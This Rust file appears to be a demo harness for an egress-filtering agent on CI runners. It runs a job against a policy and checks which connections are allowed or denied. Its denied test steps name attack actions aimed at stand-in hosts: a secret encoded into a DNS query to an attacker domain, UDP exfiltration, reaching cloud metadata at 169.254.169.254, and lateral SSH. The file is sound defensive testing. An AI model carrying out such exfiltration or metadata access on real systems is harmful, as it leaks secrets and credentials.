//! `cargo xtask demo`: the test world, the agent with a policy, and a job
//! showing what is allowed and denied; then learn mode (`demo_learn`).

use super::*;

pub(crate) struct Step {
    action: &'static str,
    what: &'static str,
    allowed: bool,
}

pub(crate) const STEPS: &[Step] = &[
    Step {
        action: "tcp:203.0.113.10:443",
        what: "the forge, gitlab.test, on 443 (allowed by CIDR)",
        allowed: true,
    },
    Step {
        action: "tcp:203.0.113.20:443",
        what: "registry.test on 443 (allowed by name)",
        allowed: true,
    },
    Step {
        action: "dns-connect:registry.test:A:443:udp@203.0.113.53:53",
        what: "registry.test looked up by the job, then reached",
        allowed: true,
    },
    Step {
        action: "dns-connect:files.pkg.test:A:443:udpc@198.51.100.66:53",
        what: "a wildcard name, via whatever resolver the job asks",
        allowed: true,
    },
    Step {
        action: "tcp:203.0.113.10:80",
        what: "the forge on port 80 (wrong port)",
        allowed: false,
    },
    Step {
        action: "dns:c2VjcmV0LXRva2Vu.exfil.attacker.test:TXT:udp@198.51.100.66:53",
        what: "secrets in a DNS query name (DNS tunnelling)",
        allowed: false,
    },
    Step {
        action: "tcp:198.51.100.66:443",
        what: "an attacker's server (not in the policy)",
        allowed: false,
    },
    Step {
        action: "udp-sendto:198.51.100.66:443",
        what: "unconnected UDP to the attacker (exfiltration)",
        allowed: false,
    },
    Step {
        action: "tcp:169.254.169.254:80",
        what: "cloud metadata over IPv4",
        allowed: false,
    },
    Step {
        action: "tcp:[fd00:ec2::254]:80",
        what: "cloud metadata over IPv6",
        allowed: false,
    },
    Step {
        action: "tcp:[::ffff:169.254.169.254]:80",
        what: "cloud metadata, IPv4-mapped on an IPv6 socket",
        allowed: false,
    },
    Step {
        action: "tcp:10.0.0.5:22",
        what: "a neighbour VM on the runner's network (lateral)",
        allowed: false,
    },
];

pub(crate) fn demo(policy: &std::path::Path) -> ExitCode {
    println!("egret demo: building the test world in fresh network namespaces");
    let world = World::new();
    println!(
        "  host 192.0.2.2 -> internet: gitlab.test {}, registry.test {}, attacker {}, metadata {} / {}; neighbour VM {}",
        world::GITLAB,
        world::REGISTRY,
        world::ATTACKER,
        world::METADATA,
        world::METADATA6,
        world::NEIGHBOUR
    );
    let mut cgroup = match TestCgroup::named("egret-demo") {
        Ok(c) => c,
        Err(e) => {
            eprintln!("egret demo: {e}");
            return ExitCode::from(2);
        }
    };
    cgroup.child("ci");
    let pins = Pins::new(&world);
    let agent = Agent::start(&world, &pins, policy, &[]);
    println!(
        "agent: enforcing {} (runner ci, cgroup /egret-demo/ci)",
        policy.display()
    );

    let actions: Vec<&str> = STEPS.iter().map(|s| s.action).collect();
    let outcomes = job::run(&world.host, Some(&cgroup.procs("ci")), &actions);
    println!(
        "job (pid {}, uid {}, no capabilities) in /egret-demo/ci:",
        outcomes[0].pid,
        egret_tests::job::JOB_UID
    );
    let mut unexpected = 0;
    let width = STEPS.iter().map(|s| s.action.len()).max().unwrap_or(0);
    for (step, o) in STEPS.iter().zip(&outcomes) {
        let refused = o.rcode.as_deref() == Some("Refused");
        let (verdict, detail) = match (o.ok() && !refused, o.eperm() || refused) {
            (_, true) if refused => (
                "DENIED ",
                "REFUSED by the runner's DNS proxy, never forwarded".to_owned(),
            ),
            (true, _) => (
                "ALLOWED",
                format!("reached \"{}\"", o.banner.as_deref().unwrap_or("")),
            ),
            (_, true) => (
                "DENIED ",
                "EPERM at connect()/sendto(), nothing sent".to_owned(),
            ),
            _ => ("ERROR  ", o.error.clone().unwrap_or_default()),
        };
        let expected = if step.allowed {
            o.ok() && !refused
        } else {
            o.eperm() || refused
        };
        if !expected {
            unexpected += 1;
        }
        println!(
            "  {verdict} {:<width$} {:<52} {detail}{}",
            step.action,
            step.what,
            if expected { "" } else { "   <-- UNEXPECTED" }
        );
    }

    let denials = STEPS.iter().filter(|s| !s.allowed).count();
    let pid = outcomes[0].pid;
    agent.wait_events(Duration::from_secs(5), |events| {
        (events.iter().filter(|e| e["pid"] == pid).count() >= denials).then_some(())
    });
    println!("events the agent emitted (stdout, one JSON object per line):");
    let events = agent.events();
    for e in &events {
        println!("  {e}");
    }
    if events.len() != denials {
        println!(
            "  expected {denials} events, got {}   <-- UNEXPECTED",
            events.len()
        );
        unexpected += 1;
    }
    // The job-start check a runner's hook runs: it passes in the job's
    // cgroup and fails outside every runner.
    println!(
        "egret verify, as a runner's job-start hook runs it (uid {}):",
        egret_tests::job::JOB_UID
    );
    for (place, procs, want) in [
        ("in /egret-demo/ci", Some(cgroup.procs("ci")), 0),
        ("outside every runner", None, 1),
    ] {
        let mut cmd = std::process::Command::new(egret_tests::workspace_bin("egret"));
        cmd.arg("verify")
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped());
        let out = world
            .host
            .spawn_as(&mut cmd, procs.as_deref(), Some(egret_tests::job::JOB_UID))
            .wait_with_output()
            .expect("egret verify");
        let code = out.status.code().unwrap_or(-1);
        let said = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        let expected = code == want;
        if !expected {
            unexpected += 1;
        }
        println!(
            "  {place:<22} exit {code}: {}{}",
            said.trim(),
            if expected { "" } else { "   <-- UNEXPECTED" }
        );
    }
    drop(agent);
    unexpected += super::demo_learn::learn(&world, &pins, &cgroup.procs("ci"));
    drop(pins);
    drop(cgroup);
    drop(world);
    println!("cleaned up: agent stopped, programs detached, cgroup and namespaces removed");
    if unexpected == 0 {
        println!("egret demo: every outcome as expected");
        ExitCode::SUCCESS
    } else {
        println!("egret demo: {unexpected} unexpected outcome(s)");
        ExitCode::from(1)
    }
}
